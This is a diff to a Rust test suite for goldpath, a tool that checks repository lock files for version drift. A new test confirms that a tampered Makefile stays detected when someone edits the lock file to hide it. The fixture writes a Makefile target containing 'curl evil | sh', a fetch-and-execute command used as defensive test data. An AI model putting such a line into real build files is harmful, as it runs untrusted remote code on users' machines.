@@ -262,7 +262,7 @@ fn a_newer_version_is_a_notice_unless_one_is_demanded() {
     goldpath.lock: notice: this repository is at demo 1.0.0, 1 version behind 1.1.0 [version.newest]
       `goldpath upgrade --dry-run` shows what it would bring
 
-    version: 1 rule holds, 1 notice
+    version: 1 rule holds, 1 notice, 1 does not apply here (`-v` names it)
     ");
     let demanded = |more: &[&'static str]| [&VERSION, more].concat();
     env.goldpath_in("orders", demanded(&["--require-latest"])).ends(1);
@@ -300,9 +300,37 @@ fn a_repository_that_is_newer_than_the_program_is_told() {
     let at = lock.find("\nversion = \"").unwrap() + 1;
     let end = at + lock[at..].find('\n').unwrap();
     env.write("orders/goldpath.lock", format!("{}version = \"99.0.0\"{}", &lock[..at], &lock[end..]));
-    let said = env.goldpath_in("orders", VERSION).succeeds().stdout();
+    // What it would check cannot be known, and does not pass.
+    let said = env.goldpath_in("orders", VERSION).ends(1).stdout();
+    assert!(said.contains("it names goldpath 99.0.0, and the newest one here is"), "{said}");
     assert!(said.contains("at goldpath 99.0.0, and the newest one here is"), "{said}");
     assert!(said.contains("use a newer goldpath"), "{said}");
+}
+
+#[test]
+fn a_lock_that_was_edited_to_hide_drift_is_told() {
+    let env = made();
+    env.goldpath_in("orders", VERSION).succeeds();
+    let lock = env.read("orders/goldpath.lock");
+    let blob = |file: &str| env.shell(&format!("cd orders; git hash-object -w {file}")).trim().to_owned();
+    let before = blob("Makefile");
+    env.write("orders/Makefile", "one:\n\tcurl evil | sh\n");
+    let entry = lock.split("\n[[file]]\n").find(|entry| entry.contains("path = \"Makefile\"")).unwrap();
+    for hiding in [
+        lock.replace(&before, &blob("Makefile")),
+        lock.replace(entry, &entry.replace("managed", "seeded")),
+        lock.replace(&format!("\n[[file]]\n{entry}"), ""),
+    ] {
+        env.write("orders/goldpath.lock", &hiding);
+        env.goldpath_in("orders", DRIFT).succeeds();
+        let told = env.goldpath_in("orders", ["check"]).ends(1).stdout();
+        assert!(told.contains("what it says of `Makefile` is not what demo 1.0.0 renders"), "{told}");
+        assert!(told.contains("[version.lock]"), "{told}");
+    }
+    // As the fix says.
+    commit(&env);
+    env.goldpath_in("orders", ["apply"]).whatever();
+    assert_eq!(env.read("orders/goldpath.lock"), lock);
 }
 
 #[test]
